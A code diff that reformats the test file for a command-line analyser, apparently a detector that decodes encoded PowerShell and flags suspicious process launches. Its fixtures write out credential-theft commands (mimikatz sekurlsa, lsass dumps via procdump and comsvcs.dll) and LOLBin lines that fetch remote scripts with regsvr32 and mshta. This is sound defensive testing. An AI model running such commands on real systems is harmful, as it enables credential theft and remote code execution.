@@ -12,10 +12,13 @@ describe('process.details command-line analysis', () => {
     expect(r.suspicious).toBe(true);
   });
 
-  it.each(['-enc', '-e', '-ec', '/EncodedCommand', '-ENCODEDCOM'])('accepts the %s spelling, with the image file naming PowerShell', (flag) => {
-    const r = analyseCommandLine(`${flag} "${encode('Get-Date')}"`, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe');
-    expect(r).toEqual({ encoded: true, decoded: 'Get-Date', indicators: [], suspicious: false });
-  });
+  it.each(['-enc', '-e', '-ec', '/EncodedCommand', '-ENCODEDCOM'])(
+    'accepts the %s spelling, with the image file naming PowerShell',
+    (flag) => {
+      const r = analyseCommandLine(`${flag} "${encode('Get-Date')}"`, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe');
+      expect(r).toEqual({ encoded: true, decoded: 'Get-Date', indicators: [], suspicious: false });
+    },
+  );
 
   it('does not treat -e of another program, or text that is not UTF-16, as encoded PowerShell', () => {
     expect(analyseCommandLine('grep -e pattern file.txt').encoded).toBe(false);
@@ -31,7 +34,10 @@ describe('process.details command-line analysis', () => {
     ['mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', 'credential theft: sekurlsa'],
     ['mimikatz.exe "privilege::debug" exit', 'credential theft: mimikatz'],
     ['procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp', 'credential theft: procdump of lsass'],
-    ['rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full', 'credential theft: comsvcs.dll MiniDump of lsass'],
+    [
+      'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full',
+      'credential theft: comsvcs.dll MiniDump of lsass',
+    ],
     ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"', 'LOLBin: rundll32'],
     ['regsvr32 /s /n /u /i:http://x/file.sct scrobj.dll', 'LOLBin: regsvr32'],
     ['mshta http://x/payload.hta', 'LOLBin: mshta'],
